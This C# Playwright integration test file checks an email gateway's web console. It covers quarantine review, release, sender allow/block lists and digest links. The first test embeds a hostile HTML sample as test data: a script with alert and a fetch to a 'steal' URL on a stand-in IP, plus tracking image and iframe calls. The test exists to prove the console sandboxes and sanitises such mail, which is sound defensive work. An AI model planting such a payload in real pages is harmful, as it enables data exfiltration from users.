using Microsoft.Playwright;

namespace Gateway.IntegrationTests.Web;

/// <summary>
/// The web console in a real browser (Debian's Chromium driven by Playwright): an administrator signs in, finds a
/// held hostile HTML message, opens it — its script does not run and it makes no request anywhere — releases it,
/// and the downstream gets it.
/// </summary>
public sealed class WebConsoleBrowserTests
{
    [Fact(Timeout = 120_000)]
    public async Task An_administrator_signs_in_opens_a_hostile_held_message_safely_and_releases_it()
    {
        await using var console = await WebConsoleFixture.StartAsync();
        const string Hostile = "<html><body><p>Your invoice</p><script>document.title='pwned';alert('pwned');fetch('http://203.0.113.9/steal')</script><img src=\"http://203.0.113.9/pixel.png\"><iframe src=\"http://203.0.113.9/frame\"></iframe></body></html>";
        var held = await console.SendAsync("hold me: your invoice", Hostile, "text/html");
        Assert.Contains("held for review", held, StringComparison.Ordinal);

        using var playwright = await Playwright.CreateAsync();
        await using var browser = await Browsers.LaunchAsync(playwright);
        var page = await browser.NewPageAsync();
        var elsewhere = new List<string>();
        var dialogs = 0;
        page.Request += (_, request) =>
        {
            if (new Uri(request.Url).Host != "127.0.0.1")
            {
                elsewhere.Add(request.Url);
            }
        };
        page.Dialog += (_, dialog) =>
        {
            dialogs++;
            _ = dialog.DismissAsync();
        };

        await page.GotoAsync(new Uri(console.Url, "quarantine").ToString());
        Assert.EndsWith("/login?return=%2Fquarantine", page.Url, StringComparison.Ordinal); // not signed in: sent to sign in
        await ShotAsync(page, "login");
        await page.FillAsync("input[name=user]", WebConsoleFixture.Admin);
        await page.FillAsync("input[name=password]", WebConsoleFixture.Password);
        await page.ClickAsync("button:has-text('Sign in')");
        Assert.EndsWith("/quarantine", page.Url, StringComparison.Ordinal);
        await ShotAsync(page, "quarantine");

        await page.ClickAsync("a:has-text('hold me: your invoice')");
        Assert.Contains("Your invoice", await page.InnerTextAsync("pre"), StringComparison.Ordinal);
        Assert.Contains("HOLD_FOR_REVIEW", await page.ContentAsync(), StringComparison.Ordinal);
        Assert.NotEqual("pwned", await page.TitleAsync());
        Assert.Contains("Your invoice", await page.FrameLocator("iframe").Locator("body").InnerTextAsync(), StringComparison.Ordinal); // the HTML as sent, in its sandbox
        var html = await page.Context.APIRequest.GetAsync(new Uri(console.Url, $"quarantine/{held.Split(' ')[^1]}/html").ToString());
        Assert.StartsWith("sandbox;", html.Headers["content-security-policy"], StringComparison.Ordinal);
        Assert.DoesNotContain("<script", await html.TextAsync(), StringComparison.OrdinalIgnoreCase); // sanitised too
        await ShotAsync(page, "message");

        await page.ClickAsync("button:has-text('Release')");
        Assert.Contains("released to user@example.test", await page.InnerTextAsync("main"), StringComparison.Ordinal);
        var delivered = Assert.Single(console.Downstream.Messages);
        Assert.Contains("hold me: your invoice", System.Text.Encoding.UTF8.GetString(delivered.Raw), StringComparison.Ordinal);

        await page.GotoAsync(new Uri(console.Url, "history?message_id=m1%40remote.test").ToString());
        Assert.Contains("quarantine", await page.InnerTextAsync("table"), StringComparison.Ordinal);
        await ShotAsync(page, "history");

        Assert.Equal(0, dialogs);
        Assert.Empty(elsewhere);
    }

    [Fact(Timeout = 120_000)]
    public async Task Release_and_allow_adds_the_sender_to_the_recipients_list_and_a_block_added_on_the_page_refuses_at_rcpt()
    {
        await using var console = await WebConsoleFixture.StartAsync();
        Assert.Contains("held for review", await console.SendAsync("hold me: our newsletter", "news", messageId: "<n1@remote.test>"), StringComparison.Ordinal);
        using var playwright = await Playwright.CreateAsync();
        await using var browser = await Browsers.LaunchAsync(playwright);
        var page = await browser.NewPageAsync();
        await page.GotoAsync(new Uri(console.Url, "login").ToString());
        await page.FillAsync("input[name=user]", WebConsoleFixture.Admin);
        await page.FillAsync("input[name=password]", WebConsoleFixture.Password);
        await page.ClickAsync("button:has-text('Sign in')");

        await page.ClickAsync("a:has-text('hold me: our newsletter')");
        await page.ClickAsync("button:has-text('Release and allow the sender')");
        Assert.Contains("sender@remote.test allowed for user@example.test", await page.InnerTextAsync("main"), StringComparison.Ordinal);
        Assert.Single(console.Downstream.Messages);

        await page.ClickAsync("a:has-text('Sender lists')");
        Assert.Contains("sender@remote.test", await page.InnerTextAsync("table"), StringComparison.Ordinal);
        await page.SelectOptionAsync("select[name=kind]", "block");
        await page.FillAsync("input[name=sender]", "pushy@remote.test");
        await page.FillAsync("input[name=for]", "user@example.test");
        await page.ClickAsync("button:has-text('Add')");
        Assert.Contains("pushy@remote.test: blocked for user@example.test", await page.InnerTextAsync("main"), StringComparison.Ordinal);
        await ShotAsync(page, "lists");

        await using var client = await RawSmtpClient.ConnectAsync(console.Gateway.EndPoint);
        var replies = await client.EnvelopeAsync("pushy@remote.test", "user@example.test", "other@example.test");
        Assert.StartsWith("550 5.7.1", replies[0], StringComparison.Ordinal);
        Assert.StartsWith("250", replies[1], StringComparison.Ordinal);
    }

    [Fact(Timeout = 120_000)]
    public async Task A_recipient_releases_and_allows_from_the_digest_link_and_the_senders_next_message_is_delivered()
    {
        // remote.test's SPF passes from loopback and its DMARC policy exists, so DMARC passes (SPF aligned).
        await using var dns = await LoopbackDnsServer.StartAsync();
        dns.AddTxt("remote.test", "v=spf1 ip4:127.0.0.0/8 -all");
        dns.AddTxt("_dmarc.remote.test", "v=DMARC1; p=none");
        await using var console = await WebConsoleFixture.StartAsync(dns: dns, rules: folder =>
        {
            File.WriteAllText(Path.Combine(folder, "actions.yaml"), "actions:\n  tag: 5.0\n  quarantine: 7.0\n  reject: 12.0\non_check_error: accept\n");
            File.WriteAllText(Path.Combine(folder, "letter.rules.yaml"), "rules:\n  - name: WEEKLY_LETTER\n    description: test rule\n    when:\n      subject: {contains: \"weekly letter\"}\n    score: 8.0\n");
        });
        Assert.Contains("held for review", await console.SendAsync("our weekly letter", "this week", to: "alice@example.test", messageId: "<w1@remote.test>"), StringComparison.Ordinal);
        var link = await console.DigestLinkAsync("alice@example.test");

        using var playwright = await Playwright.CreateAsync();
        await using var browser = await Browsers.LaunchAsync(playwright);
        var page = await browser.NewPageAsync();
        await page.GotoAsync(link.ToString());
        Assert.EndsWith("/mine", page.Url, StringComparison.Ordinal);
        await page.ClickAsync("a:has-text('our weekly letter')");
        await page.ClickAsync("button:has-text('Release and allow the sender')");
        Assert.Contains("sender@remote.test allowed for alice@example.test", await page.InnerTextAsync("main"), StringComparison.Ordinal);

        var next = await console.SendAsync("our weekly letter", "next week", to: "alice@example.test", messageId: "<w2@remote.test>");
        Assert.StartsWith("250", next, StringComparison.Ordinal);
        Assert.DoesNotContain("held", next, StringComparison.Ordinal);
        var delivered = System.Text.Encoding.UTF8.GetString(console.Downstream.Messages.Last().Raw);
        Assert.Contains("next week", delivered, StringComparison.Ordinal);
        Assert.Contains("SENDER_ALLOWED", delivered, StringComparison.Ordinal);
    }

    /// <summary>GATEWAY_SCREENSHOTS=DIR saves the pages (docs/console-*.png come from this test).</summary>
    private static async Task ShotAsync(IPage page, string name)
    {
        if (Environment.GetEnvironmentVariable("GATEWAY_SCREENSHOTS") is { Length: > 0 } folder)
        {
            // A viewport as tall as the page, not FullPage: Chromium's full-page capture leaves a sandboxed frame blank.
            var height = await page.EvaluateAsync<int>("document.documentElement.scrollHeight");
            await page.SetViewportSizeAsync(1280, Math.Max(720, height));
            await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(folder, $"console-{name}.png") });
        }
    }

    [Fact(Timeout = 120_000)]
    public async Task A_digest_link_clicked_on_another_site_opens_the_recipients_held_mail()
    {
        await using var console = await WebConsoleFixture.StartAsync();
        Assert.Contains("held for review", await console.SendAsync("hold me: for the recipient", "hello"), StringComparison.Ordinal);
        var link = await console.DigestLinkAsync("user@example.test");
        using var playwright = await Playwright.CreateAsync();
        await using var browser = await Browsers.LaunchAsync(playwright);
        var page = await browser.NewPageAsync();

        // As from webmail: a page of another site (127.0.0.2) links to the digest link; the session cookie set on the
        // way must be sent on the redirect to /mine that follows, or the recipient lands on the sign-in page.
        await using var webmail = await TestOidcProvider.StartAsync();
        await page.GotoAsync($"{webmail.Issuer}/page?link={Uri.EscapeDataString(link.ToString())}");
        await page.ClickAsync("a:has-text('Your held mail')");
        await page.WaitForURLAsync(url => url.EndsWith("/mine", StringComparison.Ordinal));

        Assert.Contains("hold me: for the recipient", await page.InnerTextAsync("main"), StringComparison.Ordinal);
    }
}
